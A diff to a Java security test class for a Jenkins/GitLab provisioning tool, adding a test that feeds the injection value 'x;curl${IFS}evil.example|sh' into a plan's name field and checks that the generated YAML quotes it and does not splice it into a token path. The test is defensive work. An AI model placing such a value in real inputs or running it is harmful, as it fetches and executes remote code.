@@ -164,7 +164,18 @@ class FolderAttackTest {
         assertTrue(setup.getYaml().contains("has chosen the name jenkins-team-b"), setup.getYaml());
         assertFalse(setup.getYaml().contains("team-a"), setup.getYaml());
         assertTrue(setup.getYaml().contains("environment: \"team-b/api\""), setup.getYaml());
-        assertEquals(List.of("jenkins-team-b", "jenkins-team-b"), Plans.keyHolders(plans.settings()));
+        assertEquals(List.of("jenkins-team-b (cluster main)", "jenkins-team-b (cluster main)"), Plans.keyHolders(plans.settings()));
+    }
+
+    /** Administrators paste what they are told to check. */
+    @Test
+    void a26WhatIsToBeCheckedIsNoOtherCommand() {
+        Plan.Signed signed = new Plan.Signed(
+                StatementForm.GITLAB, "a", "i", "{}", AllowRules.of(StatementForm.GITLAB, "team-b/api", WIDE, List.of()), List.of());
+        Plan plan = new Plan("team-b/api", List.of(), "jenkins", "x;curl${IFS}evil.example|sh", signed, null);
+        String yaml = Yaml.of(Resources.tokenAndBot(plan));
+        assertTrue(yaml.contains("'x;curl${IFS}evil.example|sh'\" first"), yaml);
+        assertFalse(yaml.contains("token/x;"), yaml);
     }
 
     /** As with an administrator's: whoever fetches the public keys before the first build finds some. */
